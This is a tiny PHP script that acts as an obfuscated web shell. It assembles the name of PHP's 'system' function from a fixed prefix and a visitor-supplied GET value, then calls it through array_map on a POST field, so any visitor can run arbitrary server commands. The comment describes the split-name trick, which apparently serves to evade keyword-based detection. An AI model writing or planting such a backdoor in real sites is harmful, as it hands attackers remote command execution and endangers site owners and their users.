<?php
// the script gives the start of 'system', the visitor the rest, as array_map's callback
$p = $_GET['p'];
array_map('sys' . $p, [$_POST['c']]);
